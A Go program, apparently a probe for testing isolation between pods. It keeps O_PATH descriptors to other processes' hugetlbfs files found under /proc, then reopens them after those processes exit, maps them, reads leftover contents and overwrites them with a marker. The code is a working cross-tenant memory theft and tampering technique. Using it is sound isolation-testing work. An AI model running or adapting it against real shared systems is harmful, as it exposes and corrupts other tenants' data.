// SPDX-License-Identifier: Apache-2.0 OR MIT

package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
	"time"
)

const (
	oPath     = 0x200000
	hugetlbfs = 0x958458f6
)

// loot is a descriptor of another pod's file that reads nothing and keeps the name alive.
type loot struct {
	fd, victim int
	said       string
}

// steal keeps an O_PATH descriptor of every claim that it sees in the roots and descriptors of
// other processes, as a process with their rights in their process namespace may. Once their
// process is gone it opens each again and again, reports each result, and writes the mark there.
func steal(mark byte, ends <-chan os.Signal) {
	kept := map[string]*loot{}
	fmt.Println("bytes 0 content 0 thief")
	againAndAgain(ends, func() {
		keepAll(kept)
		for _, one := range kept {
			if _, err := os.Lstat(fmt.Sprintf("/proc/%d", one.victim)); err == nil {
				continue
			}
			// A line each time that something else is found.
			if found := one.open(mark); found != one.said {
				one.said = found
				fmt.Printf("descriptor %d of %d %s\n", one.fd, one.victim, found)
			}
		}
	})
}

// againAndAgain does it ten times a second, until the end.
func againAndAgain(ends <-chan os.Signal, do func()) {
	for {
		select {
		case <-ends:
			return
		case <-time.After(100 * time.Millisecond):
		}
		do()
	}
}

// keepAll of what other processes of the namespace have.
func keepAll(kept map[string]*loot) {
	for _, pattern := range []string{"/proc/[0-9]*/root/dev/prezero/*", "/proc/[0-9]*/fd/*"} {
		paths, _ := filepath.Glob(pattern)
		for _, path := range paths {
			keep(kept, path)
		}
	}
}

func keep(kept map[string]*loot, path string) {
	var victim int
	if _, err := fmt.Sscanf(path, "/proc/%d/", &victim); err != nil || victim == os.Getpid() || kept[path] != nil {
		return
	}
	// Devices block, and none is of interest.
	if about, err := os.Stat(path); err != nil || !about.Mode().IsRegular() {
		return
	}
	fd, err := syscall.Open(path, oPath|syscall.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	var fs syscall.Statfs_t
	if err := syscall.Fstatfs(fd, &fs); err != nil || fs.Type != hugetlbfs {
		syscall.Close(fd)
		return
	}
	kept[path] = &loot{fd: fd, victim: victim}
	fmt.Printf("kept %d of %d by %s\n", fd, victim, path)
}

// open the kept descriptors, and everything reachable by them.
func (l *loot) open(mark byte) string {
	file, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(l.fd), os.O_RDWR, 0)
	if err != nil {
		return fmt.Sprintf("opens nothing: %v", err)
	}
	defer file.Close()
	about, err := file.Stat()
	if err != nil || about.Size() == 0 {
		return fmt.Sprintf("opens nothing: it has no byte %v", err)
	}
	memory, err := syscall.Mmap(int(file.Fd()), 0, int(about.Size()), syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED)
	if err != nil {
		return fmt.Sprintf("stolen %d bytes, not mapped: %v", about.Size(), err)
	}
	defer syscall.Munmap(memory)
	found := content(memory)
	fill(memory, mark)
	return fmt.Sprintf("stolen %d bytes content %s", len(memory), found)
}
